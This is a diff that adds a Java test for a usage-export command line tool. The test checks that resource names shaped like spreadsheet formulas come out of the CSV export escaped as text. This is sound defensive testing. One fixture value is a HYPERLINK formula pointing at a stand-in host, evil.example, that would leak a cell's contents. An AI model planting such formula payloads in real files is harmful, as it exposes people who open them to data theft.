@@ -108,4 +108,43 @@ class UsageQueryCommandTest {
       assertThat(asJson.json().findValuesAsText("MeterName")).contains("Base VM Size Hours");
     }
   }
+
+  @Test
+  void aResourceNamedLikeASpreadsheetFormulaIsExportedAsText() throws Exception {
+    SteppingClock clock = new SteppingClock();
+    try (TestServer server = TestServer.start(Engine.H2, o -> o.withClock(clock))) {
+      Stack stack = Stack.of(server);
+      String offer = stack.publicOffer("formula", "Public");
+      String sub = stack.subscribe(stack.guest(), offer, null);
+      Instant hour = clock.instant().truncatedTo(ChronoUnit.HOURS).minus(1, ChronoUnit.HOURS);
+      // Every name in the resource id is the tenant's to choose; the usage path keeps them as sent.
+      String name = "=HYPERLINK(\"evil.example?\"&A1,\"open\")";
+      UsageEvent event = new UsageEvent(UUID.randomUUID().toString(), sub, BASE_VM, new BigDecimal("2.5"), hour,
+          hour.plusSeconds(3600), "/subscriptions/" + sub + "/resourceGroups/@group/providers/Microsoft.Compute/"
+              + "virtualMachines/" + name, "-1+local", "{\"owner\":\"=1+2\"}", null);
+      TestClient.Response sent = server.client(EndpointRole.STACK_ADMIN_ARM).post(
+          "/providers/Stackledger.Usage/usageEvents?api-version=2026-11-01",
+          new String(UsageEvent.toJson(List.of(event)), java.nio.charset.StandardCharsets.UTF_8));
+      assertThat(sent.status()).as(sent.body()).isEqualTo(200);
+      clock.advance(Duration.ofDays(1));
+      String from = clock.instant().truncatedTo(ChronoUnit.DAYS).minus(2, ChronoUnit.DAYS).toString();
+      String to = clock.instant().truncatedTo(ChronoUnit.DAYS).toString();
+      CliRun operator = CliRun.in(server.dataDir(), "login", "--service-principal", "-u", server.admin().clientId(),
+          "-p", server.admin().clientSecret());
+      assertThat(operator.code()).as(operator.err()).isZero();
+
+      CliRun csv = CliRun.in(server.dataDir(), "usage", "export", "--from", from, "--to", to);
+      assertThat(csv.code()).as(csv.err()).isZero();
+      String[] lines = csv.out().split("\r\n");
+      assertThat(lines).hasSize(2);
+      // location, resourceGroup, resourceName: each a cell a spreadsheet shows as text, not a formula.
+      assertThat(lines[1]).contains(",2.5,virtualMachines,'-1+local,'@group,"
+          + "\"'=HYPERLINK(\"\"evil.example?\"\"&A1,\"\"open\"\")\",")
+          .as("JSON in a cell starts with a brace, which runs nothing").contains(",\"{\"\"owner\"\":\"\"=1+2\"\"}\",");
+      // Shown any other way the names are as the tenant chose them.
+      CliRun asJson = CliRun.in(server.dataDir(), "usage", "export", "--from", from, "--to", to, "-o", "json");
+      assertThat(asJson.json().findValuesAsText("resourceName")).containsExactly(name);
+      assertThat(asJson.json().findValuesAsText("location")).containsExactly("-1+local");
+    }
+  }
 }
